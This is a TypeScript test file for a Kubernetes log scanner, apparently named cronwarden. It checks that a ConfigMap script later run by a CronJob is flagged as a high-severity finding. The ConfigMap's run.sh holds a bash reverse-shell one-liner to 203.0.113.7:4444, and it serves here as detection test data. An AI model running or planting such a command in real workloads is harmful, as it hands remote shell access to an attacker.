import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { WRAPPERS } from '../decode/testing/wrappers.ts';
import type { JsonObject } from '../model/json.ts';
import { scan } from './scan.ts';
import { configMapOf, workloadOf, writeOf } from './testing.ts';

const folder = mkdtempSync(join(tmpdir(), 'cronwarden-known-'));
after(() => rmSync(folder, { recursive: true, force: true }));

const shell = 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1';
const map = writeOf({
  minute: 1,
  resource: 'configmaps',
  name: 'scripts',
  body: configMapOf('scripts', { 'run.sh': shell }),
});
const spec = {
  volumes: [{ name: 'scripts', configMap: { name: 'scripts' } }],
  containers: [
    {
      name: 'main',
      image: 'registry.example.com/tool:1.2.3',
      command: ['bash', '/scripts/run.sh'],
      volumeMounts: [{ name: 'scripts', mountPath: '/scripts' }],
    },
  ],
};
const body = workloadOf('CronJob', 'report', spec);
const job = writeOf({ minute: 2, resource: 'cronjobs', apiGroup: 'batch', name: 'report', body });
const events: readonly JsonObject[] = JSON.parse(JSON.stringify([map, job]));

for (const { name, wrap } of WRAPPERS) {
  test(`a ConfigMap reaches the workload that runs it, in ${name}`, async () => {
    const paths = events.map((event, index) => {
      const path = join(folder, `${index}.log`);
      writeFileSync(path, wrap(event));
      return path;
    });
    const severities: string[] = [];
    for await (const { severity } of scan({ paths, jobs: 1 }).findings) severities.push(severity);
    assert.deepEqual(severities, ['high']);
  });
}
